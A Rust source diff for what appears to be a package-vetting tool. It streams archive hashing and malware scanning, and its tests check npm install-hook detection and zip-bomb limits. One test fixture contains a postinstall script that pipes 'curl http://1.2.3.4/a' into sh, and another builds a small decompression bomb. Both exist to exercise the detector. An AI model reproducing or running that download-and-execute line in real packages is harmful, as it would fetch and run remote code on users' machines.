@@ -197,13 +197,19 @@ pub fn decide(
     approval: Option<String>,
     now: i64,
 ) -> Result<Decision, Error> {
-    let bytes = fs_err::read(&c.archive)?;
     let archive_name = c
         .archive
         .file_name()
         .map(|n| n.to_string_lossy().into_owned())
         .unwrap_or_default();
-    let sha256 = Digest::sha256(&bytes);
+    // The archive is never held whole in memory: digested, then read member by member.
+    let size = fs_err::metadata(&c.archive)?.len();
+    let digest = |algorithm| -> Result<Digest, Error> {
+        let file = std::io::BufReader::with_capacity(1 << 16, fs_err::File::open(&c.archive)?);
+        Ok(Digest::of_reader(algorithm, file)?)
+    };
+    let sha256 = digest(DigestAlgorithm::Sha256)?;
+    let sha512 = digest(DigestAlgorithm::Sha512)?;
     let mut reasons = Vec::new();
     let reject = |rule: &str, message: String| Reason {
         rule: rule.into(),
@@ -222,19 +228,20 @@ pub fn decide(
         ));
     }
 
-    // the archive, read once in memory
-    let entries = match archive::read(&archive_name, &bytes, policy.limits) {
-        Ok(e) => Some(e),
-        Err(e) => {
+    // the archive, read as a stream: each file scanned as it is read, only the few the
+    // install-hook heuristics need (and a Go module's, hashed together) kept
+    let scanned = match scan_archive(c, &archive_name, policy.limits) {
+        Ok(s) => Some(s),
+        Err(Error::Archive(e)) => {
             reasons.push(reject(e.rule_id(), e.to_string()));
             None
         }
+        Err(e) => return Err(e),
     };
 
     // checksums
-    let sha512 = Digest::of_bytes(DigestAlgorithm::Sha512, &bytes);
-    let h1 = match (&entries, c.ecosystem) {
-        (Some(e), Ecosystem::Go) => Some(expect::go_h1(e)),
+    let h1 = match (&scanned, c.ecosystem) {
+        (Some(s), Ecosystem::Go) => Some(expect::go_h1(&s.kept)),
         _ => None,
     };
     if expectations.is_empty() {
@@ -318,10 +325,7 @@ pub fn decide(
     }
 
     // malware
-    let findings = entries
-        .as_ref()
-        .map(|e| malware::scan_package(e, c.ecosystem, &archive_name))
-        .unwrap_or_default();
+    let (files, findings) = scanned.map_or((0, Vec::new()), |s| (s.files, s.findings));
     // one reason per rule and file (the findings list has every line)
     let mut seen = std::collections::BTreeSet::new();
     for f in findings
@@ -402,13 +406,13 @@ pub fn decide(
         version: c.version.clone(),
         archive: archive_name,
         sha256: sha256.hex(),
-        size: bytes.len() as u64,
+        size,
         verdict,
         reasons,
         approval,
         checksums,
         age,
-        files: entries.as_ref().map_or(0, Vec::len),
+        files,
         findings,
         decided_at: zt_core::time::rfc3339(now),
     })
@@ -435,4 +439,143 @@ pub fn record(repo: &Path, d: &Decision, bundle: Option<&Path>) -> Result<PathBu
     bytes.push(b'\n');
     zt_core::fsutil::write_atomic(&path, &bytes)?;
     Ok(path)
+}
+
+/// What one streaming read of an archive found.
+struct Scanned {
+    /// Regular files read.
+    files: usize,
+    /// Every heuristic's findings, sorted.
+    findings: Vec<malware::Finding>,
+    /// The files kept: those the hook heuristics read, or every file of a Go module zip.
+    kept: Vec<archive::Entry>,
+}
+
+/// Reads the archive member by member: per-file heuristics on each as it passes, the hook
+/// heuristics over the few files kept; an npm package whose hooks run `node FILE` is read
+/// a second time for those files. Memory: the largest member plus what is kept.
+fn scan_archive(
+    c: &Candidate,
+    archive_name: &str,
+    limits: archive::Limits,
+) -> Result<Scanned, Error> {
+    let kind = archive::Kind::from_name(archive_name)
+        .ok_or_else(|| archive::ArchiveError::UnknownFormat(archive_name.into()))?;
+    let platform_wheel = malware::is_platform_wheel(archive_name);
+    let keep_all = c.ecosystem == Ecosystem::Go;
+    let pass = |visit: archive::Visit<'_>| -> Result<(), Error> {
+        let file = fs_err::File::open(&c.archive)?;
+        let size = file.metadata()?.len();
+        let mut reader = std::io::BufReader::with_capacity(1 << 16, file);
+        archive::stream(kind, &mut reader, size, limits, visit)?;
+        Ok(())
+    };
+    let mut scanned = Scanned {
+        files: 0,
+        findings: Vec::new(),
+        kept: Vec::new(),
+    };
+    pass(&mut |e| {
+        scanned.files += 1;
+        scanned
+            .findings
+            .extend(malware::scan_entry(&e, platform_wheel));
+        if keep_all || malware::kept_for_hooks(&e.path, c.ecosystem) {
+            scanned.kept.push(e);
+        }
+        Ok(())
+    })?;
+    if c.ecosystem == Ecosystem::Npm {
+        let targets = malware::npm_hook_targets(&scanned.kept);
+        if !targets.is_empty() {
+            let mut found = Vec::new();
+            pass(&mut |e| {
+                if targets.contains(&e.path) && !scanned.kept.iter().any(|k| k.path == e.path) {
+                    found.push(e);
+                }
+                Ok(())
+            })?;
+            scanned.kept.extend(found);
+        }
+    }
+    scanned
+        .findings
+        .extend(malware::scan_hooks(&scanned.kept, c.ecosystem));
+    malware::sort(&mut scanned.findings);
+    Ok(scanned)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use archive::{gzip, write_tar};
+
+    fn decide_tgz(members: &[(&str, &[u8], u32)], limits: archive::Limits) -> Decision {
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join("p-1.0.0.tgz");
+        fs_err::write(&path, gzip(&write_tar(members))).unwrap();
+        let c = Candidate::new(Ecosystem::Npm, "p", "1.0.0", &path);
+        let policy = Policy {
+            limits,
+            ..Policy::default()
+        };
+        decide(&c, &[], &policy, Some("test".into()), 0).unwrap()
+    }
+
+    /// The archive is read as a stream and only the hook files are kept: the script an npm
+    /// hook runs is still found and judged, whether it comes before or after `package.json`.
+    #[test]
+    fn streamed_scan_still_follows_npm_hooks_either_order() {
+        let pkg: &[u8] = br#"{"name":"p","scripts":{"postinstall":"node scripts/x"}}"#;
+        let script: &[u8] = b"require('child_process').exec('curl http://1.2.3.4/a | sh')\n";
+        let filler = vec![b'a'; 4096];
+        for members in [
+            [
+                ("package/package.json", pkg, 0o644),
+                ("package/big.txt", &filler[..], 0o644),
+                ("package/scripts/x.js", script, 0o644),
+            ],
+            [
+                ("package/scripts/x.js", script, 0o644),
+                ("package/big.txt", &filler[..], 0o644),
+                ("package/package.json", pkg, 0o644),
+            ],
+        ] {
+            let d = decide_tgz(&members, archive::Limits::default());
+            assert_eq!(d.files, 3);
+            let rules: Vec<&str> = d.reasons.iter().map(|r| r.rule.as_str()).collect();
+            assert!(rules.contains(&"download-execute"), "{rules:?}");
+        }
+    }
+
+    /// A bomb within the per-member limit but over the unpacked total is refused with a
+    /// clear reason (and its members are not all held: each is dropped once scanned).
+    #[test]
+    fn a_bomb_over_the_total_is_refused_by_name() {
+        let zeros = vec![0u8; 1 << 20];
+        let limits = archive::Limits {
+            max_total: 3 << 20,
+            ..archive::Limits::default()
+        };
+        let d = decide_tgz(
+            &[
+                ("package/a", &zeros[..], 0o644),
+                ("package/b", &zeros[..], 0o644),
+                ("package/c", &zeros[..], 0o644),
+                ("package/d", &zeros[..], 0o644),
+            ],
+            limits,
+        );
+        assert_eq!(d.verdict, Verdict::Rejected);
+        let r = d
+            .reasons
+            .iter()
+            .find(|r| r.rule == "archive-too-large")
+            .unwrap();
+        assert!(
+            r.message.ends_with("exceeds the limit of 3145728 bytes"),
+            "{}",
+            r.message
+        );
+    }
 }
